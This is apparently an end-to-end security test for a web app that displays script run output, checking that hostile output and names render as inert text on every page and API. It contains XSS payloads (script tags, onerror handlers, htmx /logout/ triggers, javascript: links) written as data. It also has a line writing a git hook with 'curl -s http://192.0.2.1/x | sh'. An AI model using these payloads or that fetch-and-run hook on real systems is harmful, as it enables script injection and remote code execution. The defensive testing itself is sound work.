"""Agent output is data, never markup (DESIGN.md invariant 5), end to end.

A real script run (real worker, real sandbox) prints hostile bytes: markup, htmx attributes,
OSC-8 hyperlinks to ``javascript:``/``data:``, terminal title/cursor/C1 sequences, invalid UTF-8,
NULs, a character split across writes and random bytes. Its project name, task, file names and a
review comment carry markup too. Headless Chromium then looks at every page that shows them:
the live run page (lines arrive over the socket and are built by static/js/ansi.js), the same
page reloaded (lines rendered by apps/runs/ansi.py), history, compare, the shared link, the
project pages; and the log download and REST API return it as inert text/JSON.

What a user would notice if this failed: a dialog, a request they did not make (htmx calling
/logout/, an image beacon), a clickable ``javascript:`` link, a changed tab title, or text that
is not what the program printed.
"""

from __future__ import annotations

import json
import re

import pytest
from playwright.sync_api import expect

from apps.reviews import services as review_services
from apps.runs import services
from apps.runs.models import Run
from tests.api.conftest import make_token
from tests.e2e.conftest import (  # noqa: F401 - fixtures: daphne + Chromium
    browser,
    live_url,
    page,
)
from tests.e2e.test_run_page import log_in
from tests.projects.factories import make_project, make_user

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.docker, pytest.mark.slow]


@pytest.fixture(scope="session")
def e2e_worker(attack_worker):
    """live_url's worker is the attack suite's (tests/security/conftest.py): one worker process
    for the whole suite instead of one more per module on a loaded host."""
    return attack_worker


# Injected requests all aim here; none may ever be made.
TRAPS = ("/logout/", "example.invalid", "/x", "pwned")

PROJECT_NAME = "<img src=x onerror=\"window.__pwned='project';alert('project')\"> P&Q"
COMMENT = (
    "<script>window.__pwned='comment'</script> <a href=\"javascript:alert('c')\">c</a>"
    ' <div hx-get="/logout/" hx-trigger="load">hx</div>'
)
TASK_NAME = "<b onmouseover=alert(0)>task</b>"
EVIL_FILE = "out/<img src=x onerror=alert('file')>.txt"

# Each line is one command of the script run (sh -c, dash's printf: \NNN is an octal byte).
COMMANDS = [
    # The task's first line is the run's name in the header and history; the sleep lets the
    # page open before the first byte (the live path: socket + ansi.js).
    f": '{TASK_NAME}'; sleep 2",
    r"printf 'A1 <script>window.__pwned=1;alert(1)</script>\n'",
    r"""printf 'A2 <img src=x onerror="window.__pwned=2;alert(2)">\n'""",
    r"""printf 'A3 <div hx-get="/logout/" hx-trigger="load">hx</div>"""
    r""" <div data-hx-get="/logout/" data-hx-trigger="load">dhx</div>\n'""",
    r"printf 'A4 \033]8;;javascript:window.__pwned=3\033\\jslink\033]8;;\033\\"
    r" \033]8;;data:text/html,<script>alert(4)</script>\007datalink\033]8;;\007"
    r" \033]8;;https://example.invalid/ok\033\\httpslink\033]8;;\033\\\n'",
    r"printf 'A5 \033]0;pwned title\007\033[2J\033[H\033[5;5Hmoved"
    r" \302\233 31m\302\235 0;x\302\234 c1\n'",
    r"printf 'A6 bad \377\376 nul a\000b end\n'",
    # U+1F600 and U+00E9 cut between separate writes: the incremental decoder joins them.
    r"printf 'A7 emoji \360\237'; sleep 0.2; printf '\230\200 \303'; sleep 0.2; printf '\251 ok\n'",
    "head -c 4000 /dev/urandom; echo",
    r"printf 'A8 \033[31mred\033[0m plain\n'",
    f'mkdir -p out && echo hi > "{EVIL_FILE}"',
    # A git hook in the captured files is refused, and the run page says so.
    "mkdir -p .git/hooks && echo 'curl -s http://192.0.2.1/x | sh' > .git/hooks/post-checkout",
]
EXPECTED = {
    "A1": "A1 <script>window.__pwned=1;alert(1)</script>",
    "A2": 'A2 <img src=x onerror="window.__pwned=2;alert(2)">',
    "A3": 'A3 <div hx-get="/logout/" hx-trigger="load">hx</div>'
    ' <div data-hx-get="/logout/" data-hx-trigger="load">dhx</div>',
    # OSC-8 targets are dropped, whatever their scheme: the link text stays, as text.
    "A4": "A4 jslink datalink httpslink",
    # Title, cursor moves and the C1 (8-bit CSI/OSC/ST) characters are removed.
    "A5": "A5 moved  31m 0;x c1",
    "A6": "A6 bad \ufffd\ufffd nul ab end",
    "A7": "A7 emoji \U0001f600 \u00e9 ok",
    "A8": "A8 red plain",
}

# Everything on the page that could run or fetch something the output injected.
HOSTILE_DOM = r"""() => {
    const bad = [];
    for (const el of document.querySelectorAll('*')) {
        for (const attr of el.attributes) {
            const name = attr.name.toLowerCase();
            if (name.startsWith('on')) bad.push(`${el.tagName} ${name}`);
            if ((name.startsWith('hx-') || name.startsWith('data-hx-')) &&
                /logout|pwned/.test(attr.value)) bad.push(`${el.tagName} ${name}=${attr.value}`);
        }
    }
    for (const s of document.querySelectorAll('script')) {
        if (!s.src && s.type !== 'application/json') bad.push('inline script: ' + s.textContent);
    }
    for (const el of document.querySelectorAll('img, iframe, object, embed, svg, video, audio')) {
        bad.push(`${el.tagName} element`);
    }
    for (const a of document.querySelectorAll('a[href], area[href], form[action]')) {
        const url = new URL(a.href || a.action, location.href);
        if (!['http:', 'https:'].includes(url.protocol)) bad.push(`${a.tagName} -> ${url.href}`);
    }
    return bad;
}"""


def watch(tab) -> dict[str, list]:
    """Record dialogs, requests to the traps and socket frames for the whole test."""
    seen: dict[str, list] = {"dialogs": [], "requests": [], "frames": []}

    def on_dialog(dialog) -> None:
        seen["dialogs"].append(dialog.message)
        dialog.dismiss()

    def on_request(request) -> None:
        url = request.url
        if any(trap in url for trap in TRAPS) or not url.startswith("http://127.0.0.1"):
            seen["requests"].append(url)

    tab.on("dialog", on_dialog)
    tab.context.on("request", on_request)
    tab.on(
        "websocket",
        lambda ws: ws.on("framereceived", lambda payload: seen["frames"].append(payload)),
    )
    return seen


def assert_inert(tab, seen: dict[str, list], where: str) -> None:
    tab.wait_for_timeout(300)  # give an injected hx-trigger="load" or onerror its chance
    assert tab.evaluate("typeof window.__pwned") == "undefined", where
    assert tab.evaluate(HOSTILE_DOM) == [], where
    assert seen["dialogs"] == [], where
    assert seen["requests"] == [], where
    assert "pwned title" not in tab.title(), where  # the OSC 0 "set title" sequence


def line_texts(tab) -> dict[str, str]:
    texts = tab.evaluate(
        "() => Array.from(document.querySelectorAll('.ln .ln-tx'), n => n.textContent)"
    )
    return {text[:2]: text for text in texts if re.match(r"A\d ", text)}


def assert_log_shown_literally(tab, where: str) -> None:
    assert line_texts(tab) == EXPECTED, where
    # Only the line-number permalinks are links inside the log.
    hrefs = tab.evaluate(
        "() => Array.from(document.querySelectorAll('#log-lines a, .shared-log a'),"
        " a => a.getAttribute('href'))"
    )
    assert hrefs and all(re.fullmatch(r"#L\d+", href) for href in hrefs), where
    assert tab.locator(".ln-tx span.a-fg-1", has_text="red").count() == 1, where


def test_hostile_output_and_names_stay_text_on_every_page_and_api(live_url, page):  # noqa: F811
    user = make_user("mallory")
    project = make_project(
        user, name=PROJECT_NAME, default_kind="script", capture_patterns=["out/**", ".git/**"]
    )
    seen = watch(page)
    log_in(page, live_url, "mallory")
    run = services.start_run(
        project=project, user=user, task="\n".join(COMMANDS), overrides={}, kind="script"
    )

    # Live: the lines come over the socket and are built in the browser.
    page.goto(f"{live_url}/runs/{run.pk}/")
    expect(page.locator("[data-testid=run-status]")).to_have_text("Succeeded", timeout=90_000)
    page.wait_for_function("document.querySelectorAll('#log-lines .ln').length >= 9")
    assert_log_shown_literally(page, "live")
    assert_inert(page, seen, "live run page")
    assert run.task.splitlines()[1] in page.locator("[data-testid=timeline]").inner_text()
    refused = page.locator("[data-testid=capture-refused]")
    expect(refused).to_contain_text(".git/hooks/post-checkout")
    socket_events = [
        event
        for frame in seen["frames"]
        for event in json.loads(frame).get("events", [])  # every frame is JSON, never HTML
        if event.get("type") == "log"
    ]
    assert socket_events, "the live page got its lines over the socket"

    # Replay: the same page reloaded renders the lines on the server.
    run.refresh_from_db()
    review_services.add_comment(run=run, user=user, body=COMMENT, line=2)
    review_services.add_comment(run=run, user=user, body=COMMENT)
    page.reload()
    page.wait_for_selector("#log-lines .ln")
    assert_log_shown_literally(page, "replay")
    expect(page.locator("#review-panel")).to_contain_text("window.__pwned='comment'")
    expect(page.locator('[data-review-for="line:2"]')).to_contain_text("hx-trigger")  # review.js
    expect(page.locator("[data-testid=file-tree]")).to_contain_text("<img src=x onerror=")
    expect(page.locator(".crumbs")).to_contain_text(PROJECT_NAME)
    expect(page.locator("#run-header")).to_contain_text(TASK_NAME)
    expect(refused).to_contain_text(".git/hooks/post-checkout")
    assert_inert(page, seen, "replayed run page")

    # Everywhere else the names, task, files and comments appear.
    _link, token = review_services.create_share_link(run=run, user=user, days=1)
    for where, path, shows in [
        ("history", "/runs/", TASK_NAME),
        ("project", f"/projects/{project.pk}/", PROJECT_NAME),
        ("projects", "/projects/", PROJECT_NAME),
        ("compare", f"/review/compare/?run={run.pk}&run={run.pk}", "<img src=x onerror="),
        ("shared", f"/review/shared/{token}/", "window.__pwned='comment'"),
    ]:
        page.goto(live_url + path)
        expect(page.locator("main, body").first).to_contain_text(shows)
        assert_inert(page, seen, where)
        if where == "shared":
            assert_log_shown_literally(page, where)
    assert page.js_errors == [], page.js_errors
    assert page.failed_requests == [], page.failed_requests

    # The log download and the API: text and JSON that no browser renders or sniffs.
    raw = page.request.get(f"{live_url}/runs/{run.pk}/log.txt")
    assert raw.headers["content-type"] == "text/plain; charset=utf-8"
    assert raw.headers["content-disposition"].startswith("attachment")
    assert raw.headers["x-content-type-options"] == "nosniff"
    body = raw.body().decode("utf-8")  # valid UTF-8 whatever the program wrote
    assert "A1 <script>" in body and "A6 bad \ufffd\ufffd nul ab end" in body and "\x00" not in body

    headers = {"Authorization": f"Bearer {make_token(user)}"}
    api_log = page.request.get(f"{live_url}/api/v1/runs/{run.pk}/log?plain=true", headers=headers)
    assert api_log.status == 200
    assert api_log.headers["content-type"].startswith("text/plain")
    assert api_log.headers["x-content-type-options"] == "nosniff"
    assert api_log.headers["content-security-policy"] == "sandbox"
    plain_lines = {
        line[:2]: line for line in api_log.body().decode().splitlines() if re.match(r"A\d ", line)
    }
    assert plain_lines == EXPECTED
    events = page.request.get(f"{live_url}/api/v1/runs/{run.pk}/events?limit=1000", headers=headers)
    assert events.headers["content-type"].startswith("application/json")
    texts = [e["data"]["text"] for e in events.json()["events"] if e["type"] == "log"]
    assert any(t.startswith("A1 <script>") for t in texts)
    assert not any("\x00" in t for t in texts)
    assert Run.objects.get(pk=run.pk).status == Run.Status.SUCCEEDED
